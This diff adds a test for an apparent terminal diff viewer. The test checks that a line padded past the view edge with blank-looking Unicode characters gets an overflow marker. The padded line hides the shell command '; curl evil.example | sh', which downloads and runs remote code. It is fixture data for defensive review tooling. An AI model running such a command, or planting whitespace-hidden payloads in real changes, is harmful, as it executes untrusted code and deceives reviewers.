@@ -13,6 +13,7 @@ import tempfile
 from collections.abc import Callable
 from pathlib import Path
 
+from rich.cells import cell_len
 from rich.style import Style
 from textual.widgets import Static
 
@@ -719,3 +720,35 @@ def test_unicode_blanks_collapse_and_search_finds_what_a_line_does_not_show() ->
     blanks = Search(document, "\u3000")
     assert blanks.hits == [0] and document.lines[0][slice(*blanks.spans(0)[0])] == (
         " [1000 blanks] ")
+
+
+def test_a_line_wider_than_the_view_says_so_at_its_edge(tmp_path: Path) -> None:
+    """Blank-looking characters come in more kinds than any collapse can list: a line
+    that goes on past the view's right edge is marked there (`»`, as less's `>`),
+    whatever fills the screen before it."""
+    from minipipe_svc.store import Store
+
+    db = build_review_db(tmp_path)
+    hidden = "+v2" + ("\u3000" * 39 + "\u2801") * 3 + "; curl evil.example | sh"
+    with Store.open(str(db)) as store:
+        run_id = store.submit(workspace_plan("wide"), source=None, submitted_by="bob")
+        add_change(store, tmp_path / "logs", run_id, CHANGES,
+                   b"diff --git a/V b/V\n--- a/V\n+++ b/V\n@@ -0,0 +1,2 @@\n"
+                   + hidden.encode() + b"\n+short\n")
+    app = monitor(db)
+
+    async def scenario(pilot) -> None:
+        screen = await open_diff(app, pilot, run_id)
+        view = screen.query_one(DiffView)
+        width = view.scrollable_content_region.width
+        assert cell_len(hidden) > width
+        drawn = styles_of(screen, hidden)
+        assert drawn[-1][0] == "»" and drawn[-1][1].bgcolor.name == "magenta"
+        assert styles_of(screen, "+short")[-1][0] != "»"
+        view.scroll_to(cell_len(hidden), None, animate=False, immediate=True)
+        await pilot.pause()
+        index = view.document.lines.index(hidden)
+        tail = "".join(s.text for s in view.render_line(index - view.scroll_offset.y))
+        assert "»" not in tail  # scrolled to its end: nothing more to the right
+
+    run_app(app, scenario, size=(120, 40))
